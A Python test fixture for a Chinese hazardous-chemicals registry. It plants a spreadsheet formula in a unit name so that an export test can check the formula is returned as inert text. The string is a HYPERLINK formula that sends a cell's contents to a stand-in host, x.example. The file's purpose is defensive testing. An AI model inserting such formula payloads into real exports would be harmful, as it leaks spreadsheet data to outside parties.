"""Formula-like strings planted in the records of 危险化学品与重大危险源, through the services,
for ``test_export_formulas``: each planter writes what a ledger shows by the district official
of 杨浦区 (who downloads it) and returns the strings that must come back as text."""

from anjian.hazchem.tests import factories as make
from testsupport import world

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'


def plant_source() -> list[str]:
    """A unit named with a formula holding 10 t of 氯: a major hazard source (三级)."""
    unit = make.unit(world.actor("district_official"), name=FORMULA)
    make.add(unit, "氯", "10")
    return [FORMULA]
